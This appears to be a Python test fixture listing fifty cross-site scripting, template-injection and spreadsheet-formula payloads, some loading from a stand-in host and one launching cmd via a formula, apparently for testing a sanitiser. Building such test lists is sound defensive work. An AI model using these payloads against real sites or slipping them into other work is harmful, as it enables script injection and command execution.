"""Fifty ways to make text act as markup, script, path or formula (common practice, from memory).

Each would set ``window.hit``, fetch something, or leave an element with the id ``trick``, where the
text came to life in a page.
"""

from __future__ import annotations

_JS = "window.hit=1"

TRICKS = (
    f"<script>{_JS}</script>",
    f"<SCRIPT>{_JS}</SCRIPT>",
    f"</script><script>{_JS}</script>",
    f"<scr<script>ipt>{_JS}</scr</script>ipt>",
    f"<script src='data:text/javascript,{_JS}'></script>",
    "<script src=//invented.invalid/x.js></script>",
    f"<img id=trick src=x onerror={_JS}>",
    f"<img/id=trick/src=x/onerror={_JS}>",
    f"<img src=x onerror='{_JS}'",
    f"<svg id=trick onload={_JS}>",
    f"<svg><script>{_JS}</script></svg>",
    f"<svg><animate onbegin={_JS} attributeName=x dur=1s>",
    f"<body onload={_JS}>",
    f"<details id=trick open ontoggle={_JS}>x</details>",
    f"<video><source onerror={_JS}></video>",
    f"<audio src=x onerror={_JS}>",
    f"<input id=trick autofocus onfocus={_JS}>",
    f"<select autofocus onfocus={_JS}>",
    f"<textarea autofocus onfocus={_JS}>",
    f"<marquee id=trick onstart={_JS}>x</marquee>",
    "<iframe id=trick srcdoc='<script>parent.hit=1</script>'></iframe>",
    f"<iframe id=trick src='javascript:parent.{_JS}'></iframe>",
    f"<object id=trick data='data:text/html,<script>{_JS}</script>'></object>",
    "<embed id=trick src=//invented.invalid/x>",
    "<link id=trick rel=stylesheet href=//invented.invalid/x.css>",
    "<style id=trick>@import '//invented.invalid/x.css';</style>",
    "<meta id=trick http-equiv=refresh content='0;url=//invented.invalid/'>",
    "<base id=trick href=//invented.invalid/>",
    f"<form id=trick action=javascript:{_JS}><button autofocus>x</button></form>",
    f"<a id=trick href='javascript:{_JS}'>x</a>",
    f"<math><mtext></mtext><img src=x onerror={_JS}></math>",
    f"<template id=trick><img src=x onerror={_JS}></template>",
    f'"><img src=x onerror={_JS}>',
    f"'><img src=x onerror={_JS}>",
    f'" onmouseover={_JS} x="',
    f"' onfocus={_JS} autofocus x='",
    f"`><img src=x onerror={_JS}>",
    f"--><img src=x onerror={_JS}><!--",
    f"]]><img src=x onerror={_JS}>",
    f"</title><img src=x onerror={_JS}>",
    f"</style><img src=x onerror={_JS}>",
    f"</textarea></noscript><img src=x onerror={_JS}>",
    f"&lt;img src=x onerror={_JS}&gt;",
    f"&#60;img src=x onerror={_JS}&#62;",
    f"\\u003cimg src=x onerror={_JS}\\u003e",
    f"\\x3cimg src=x onerror={_JS}\\x3e",
    f'";{_JS};//',
    f"</script>{{{{constructor.constructor('{_JS}')()}}}}${{{_JS}}}",
    f"{{% raw %}}{{{{ 7*7 }}}}<img src=x onerror={_JS}>",
    f"=cmd|'/c x'!A1<img src=x onerror={_JS}>",
)
